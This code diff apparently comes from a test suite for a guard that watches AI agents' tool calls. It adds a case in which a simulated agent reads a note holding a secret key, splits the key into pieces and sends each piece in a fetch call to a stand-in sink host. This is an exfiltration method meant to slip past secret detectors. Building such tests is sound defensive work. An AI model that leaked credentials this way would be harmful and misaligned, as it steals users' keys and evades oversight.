@@ -20,7 +20,7 @@ from guard.content import leak_patterns
 from guard.content.decoder import Readings
 from guard.detectors import secrets as secret_detector
 from guard.lab.trust.attacks import AttackClass, Attempt, Switch
-from guard.provenance import ladder
+from guard.provenance import intake, ladder
 from guard.rules import content as content_rule
 from guard.rules.capacity import CapacityRule
 from guard.rules.provenance import PrivateBodyRule
@@ -152,6 +152,11 @@ class Content(AttackClass):
         Switch("an agent was given what it did not write", lambda p: _given(p), among="given:"),
         Switch("what a host is told adds up", lambda patch: _drips(patch), among="drip:"),
         Switch("private text is known again", lambda patch: _unknown(patch), among="private:"),
+        Switch(
+            "secrets are private wherever they are read",
+            lambda patch: patch.set(intake, "secrets_said", lambda _text: ()),
+            among="in parts:",
+        ),
         Switch("pieces of it add up", lambda patch: _no_pieces(patch), among="pieces:"),
     )
 
@@ -165,6 +170,7 @@ class Content(AttackClass):
             *_told_urls(rng),
             *_drip(rng),
             *_private(rng),
+            *_read_secrets(rng),
             *_given_back(rng),
         ]
         rng.shuffle(made)
@@ -388,6 +394,22 @@ def _private(rng: Random) -> Iterator[tuple[str, Play]]:
         yield f"pieces: {number} of {text[:12]}", play
 
 
+def _read_secrets(rng: Random) -> Iterator[tuple[str, Play]]:
+    """Yield keys that a tool returned which nobody calls private, over a few calls, in order."""
+    for form, share in itertools.product(READ_FORMS, (2, 3)):
+        secret = FORMS[form](rng)
+        size = -(-len(secret) // share)
+        cut = [secret[at : at + size] for at in range(0, len(secret), size)]
+        calls = [
+            ("fetch", {"url": "https://one.sink.test/in", "note": f"{part} ok"}) for part in cut
+        ]
+        play = _sends(calls, found=f"The key is {secret} for now.", fresh=rng.random() < 0.5)
+        yield f"in parts: {form} in {share}", play
+
+
+READ_FORMS: Final = ("github", "google", "npm", "model", "sendgrid", "jwt", "telegram")
+
+
 def _cut_words(rng: Random, text: str) -> list[str]:
     words, size = text.split(), rng.choice((1, 2, 3))
     pieces = [" ".join(words[at : at + size]) for at in range(0, len(words), size)]
@@ -413,7 +435,11 @@ def _dressed(rng: Random, piece: str) -> str:
 
 
 def _sends(
-    calls: Sequence[tuple[str, dict[str, Json]]], *, recalled: str = "", fresh: bool = False
+    calls: Sequence[tuple[str, dict[str, Json]]],
+    *,
+    recalled: str = "",
+    found: str = "",
+    fresh: bool = False,
 ) -> Play:
     """Play some calls, each in a session of its own if ``fresh``; all must be forwarded."""
 
@@ -421,6 +447,8 @@ def _sends(
         agent: Agent = world.agent()
         if recalled:
             await agent.call("recall_fact", {"key": "k"}, recalled)
+        if found:
+            await agent.call("read_note", {"id": 1}, found)
         for number, (tool, arguments) in enumerate(calls):
             at = agent.later(f"s{number}") if fresh else agent
             if not (await at.call(tool, arguments)).forwarded:
